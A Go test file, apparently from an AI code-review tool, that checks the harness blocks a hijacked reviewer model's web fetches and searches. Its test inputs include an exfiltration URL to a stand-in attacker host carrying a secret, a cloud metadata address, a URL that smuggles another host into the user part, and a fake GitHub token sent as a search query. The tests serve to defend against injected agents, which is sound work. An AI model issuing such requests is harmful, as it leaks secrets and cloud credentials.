package cli_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/prloop/prloop/internal/testkit/fakemodel"
	"github.com/prloop/prloop/internal/testkit/forge"
)

// TestWebFetch holds the way out (threats.md T50) in a run: a hijacked reviewer asks for everything it should not have, and is
// told no by prloop itself; where the operator lists no host there is no such tool, and the repository cannot list one.
func TestWebFetch(t *testing.T) {
	t.Parallel()
	urls := []string{
		"https://evil.example/?d=SECRET", "https://169.254.169.254/latest/meta-data/", "http://docs.example.com/", "https://docs.example.com:8443/", "https://docs.example.com@evil.example/",
		"https://docs.example.com/sixth",
	}
	wants := []string{"does not allow the host evil.example", "a name with a dot", "only https", "only port 443", "names no user", "web pages is used up"}
	for _, c := range []struct {
		config string
		on     bool
	}{{"web_fetch: {hosts: [docs.example.com]}", true}, {"", false}} {
		t.Run(fmt.Sprint("on ", c.on), func(t *testing.T) {
			t.Parallel()
			_, tools, told := webTool(t, "web_fetch", "url", urls, c.config)
			if slices.Contains(tools, "web_fetch") != c.on || len(told) != len(urls) {
				t.Fatalf("tools %q, told %q", tools, told)
			}
			for i, text := range told {
				want := wants[i]
				if !c.on {
					want = "there is no tool"
				}
				if !strings.Contains(text, want) {
					t.Errorf("%s: the model was told %q, want %q", urls[i], text, want)
				}
			}
		})
	}
}

// TestWebSearch has a hijacked reviewer search in a run: what may be asked reaches the operator's provider, what looks like a secret
// and what is long does not, the sixth question is one too many, and the receipt counts them. The repository can name no provider.
func TestWebSearch(t *testing.T) {
	t.Parallel()
	queries := []string{"go division by zero", "ghp_16C7e42F292c6912E7710c838347Ae178B4a", strings.Repeat("long ", 40), "a", "b", "c"}
	wants := []string{"integer divide by zero", "looks like a secret", "at most 120 bytes", "integer", "integer", "web searches is used up"}
	for _, on := range []bool{true, false} {
		t.Run(fmt.Sprint("on ", on), func(t *testing.T) {
			t.Parallel()
			var asked []string
			provider := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				asked = append(asked, r.URL.Query().Get("q"))
				_, _ = io.WriteString(w, `{"results":[{"title":"Spec","url":"https://go.dev/ref/spec","content":"integer divide by zero panics"}]}`)
			}))
			t.Cleanup(provider.Close)
			config := ""
			if on {
				config = "web_search: {provider: searxng, base_url: \"" + provider.URL + "\"}"
			}
			p, tools, told := webTool(t, "web_search", "query", queries, config)
			provider.Close() // it waits for what is being answered
			if slices.Contains(tools, "web_search") != on || len(told) != len(queries) {
				t.Fatalf("tools %q, told %q", tools, told)
			}
			for i, text := range told {
				want := wants[i]
				if !on {
					want = "there is no tool"
				}
				if !strings.Contains(text, want) {
					t.Errorf("%s: the model was told %q, want %q", queries[i], text, want)
				}
			}
			if want := map[bool]string{true: "[go division by zero a b]", false: "[]"}[on]; fmt.Sprint(asked) != want {
				t.Errorf("the provider was asked %q, want %s", asked, want)
			}
			comments := p.Comments()
			if len(comments) != 1 || strings.Contains(comments[0].Body, "asked the search provider 5 times") != on {
				t.Errorf("what was posted: %+v", comments)
			}
		})
	}
}

// webTool runs a review whose model calls one tool of the web once for each value, and gives the tools it was offered and what it was
// told.
func webTool(t *testing.T, tool, field string, values []string, config string) (p *forge.PullRequest, tools, told []string) {
	t.Helper()
	m := endpoint(t, fakemodel.Script{Respond: func(q fakemodel.Request) (fakemodel.Answer, bool) {
		if q.Schema != nil {
			return fakemodel.Answer{JSON: envelope(nil)}, true
		}
		if strings.Contains(string(q.Body), `"web-0"`) {
			return fakemodel.Answer{ToolCalls: []fakemodel.ToolCall{submit(q)}}, true
		}
		var calls []fakemodel.ToolCall
		for i, v := range values {
			calls = append(calls, fakemodel.ToolCall{ID: fmt.Sprint("web-", i), Name: tool, Arguments: `{"` + field + `":"` + v + `"}`})
		}
		return fakemodel.Answer{ToolCalls: calls}, true
	}})
	p, env, home := budgetWorld(t, m, "limits: {max_llm_calls: 8, max_tool_calls: 20}\n"+config, nil)
	budgetRun(t, append(env, "PRLOOP_SANDBOX=best", "PRLOOP_SANDBOX_READ="+filepath.Join(home, "picky.json")), home, 3)
	all := m.Requests()
	for _, message := range all[len(all)-1].Messages {
		if message.Role == "tool" && !strings.HasPrefix(message.Text, "ok") {
			told = append(told, message.Text)
		}
	}
	return p, all[0].Tools, told
}
